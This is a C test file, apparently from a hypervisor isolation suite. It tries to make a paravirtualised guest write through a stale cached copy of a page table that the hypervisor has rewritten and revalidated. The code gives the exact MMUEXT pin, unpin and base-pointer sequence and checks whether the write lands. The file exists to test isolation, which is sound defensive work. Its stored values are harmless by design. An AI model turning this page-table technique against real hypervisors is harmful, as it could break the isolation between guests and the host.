/*
 * A stale copy of a table, kept by the engine, brought back. Like
 * stale-tlb-root it moves to a copy of its tree in which the scratch
 * address maps frame Y, after storing through the scratch address under
 * the old tree (so the old L1 T, which maps it to X, is cached), and
 * unpins the old root: the old tree is devalidated, and T is data. It
 * then rewrites T's entry for the scratch address to Y with mmu_update (a
 * plain store into a data page, done by the hypervisor), pins X as an L1,
 * pins the old root again (T now validates: it maps Y) and loads it. A
 * store through the scratch address must reach Y. It lands in X, a
 * validated L1, if the engine kept its copy of T from before the rewrite
 * (KVM's shadow paging does not see the hypervisor's writes). The stores
 * are non-present entries, harmless if they do land.
 * Xen: 0 and the store in Y. The line says "refused ...: 0" then.
 */
#include "hostile.h"

static int attack(void)
{
    volatile uint64_t *p;
    volatile uint64_t *xview = (volatile uint64_t *)hx_scratch(2);
    unsigned long va, x, y, newt[5], old[5];
    long rc;

    if ((rc = hx_stale_begin(&p, &x, &y)))
        return (int)rc;
    va = (unsigned long)p;
    /* The new tree, in which the scratch address maps Y. */
    if ((rc = hx_stale_copy_tree(va, y, old, newt)))
        return (int)rc;
    /* Use X through T under the old root, so that T is cached. */
    if ((rc = hx_stale_first(p)))
        return (int)rc;
    rc = hx_mmuext1(MMUEXT_NEW_BASEPTR, newt[4], 0);
    if (rc == 0)
        rc = hx_mmuext1(MMUEXT_UNPIN_TABLE, old[4], 0);
    if (rc != 0)
        return hx_setup_failed("could not move to the new tree", rc);
    /* T is data now: the hypervisor writes the scratch entry for us. */
    rc = hx_mmu1(hx_slot_maddr(old[1], hx_index(va, 1)), (y << 12) | HX_RW);
    if (rc != 0)
        return hx_setup_failed("could not rewrite the old L1 as data", rc);
    rc = hx_mmuext1(MMUEXT_PIN_L1_TABLE, x, 0);
    if (rc != 0)
        return hx_setup_failed("could not pin the old frame as an L1", rc);
    rc = hx_mmuext1(MMUEXT_PIN_L4_TABLE, old[4], 0);
    if (rc == 0)
        rc = hx_mmuext1(MMUEXT_NEW_BASEPTR, old[4], 0);
    if (rc != 0)
        return hx_setup_failed("could not go back to the old tree", rc);
    p[0] = HX_STALE_SECOND;
    rc = hx_update_va_mapping(hx_scratch(2), (x << 12) | HX_RO, UVMF_INVLPG);
    if (rc != 0)
        return hx_setup_failed("could not map the new L1 read-only", rc);
    hx_attempt_any(0, xview[0] == HX_STALE_FIRST && p[0] == HX_STALE_SECOND,
                   "a store through a copy of a table taken before the hypervisor rewrote it");
    return 0;
}
